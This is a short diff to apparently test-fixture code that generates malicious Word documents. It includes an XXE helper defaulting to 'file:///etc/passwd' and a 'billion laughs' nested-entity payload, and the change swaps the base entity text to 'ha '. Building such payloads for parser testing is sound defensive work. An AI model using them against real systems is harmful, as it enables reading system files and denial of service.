@@ -95,7 +95,7 @@ def external_entity(address: str = "file:///etc/passwd") -> bytes:
 
 def laughs() -> bytes:
     """Billion laughs in Word."""
-    names = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10 if n else SENTENCE}'>" for n in range(12))
+    names = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10 if n else 'ha '}'>" for n in range(12))
     return package("<w:p><w:r><w:t>&e11;</w:t></w:r></w:p>", head=f"<!DOCTYPE d [{names}]>")
 
 
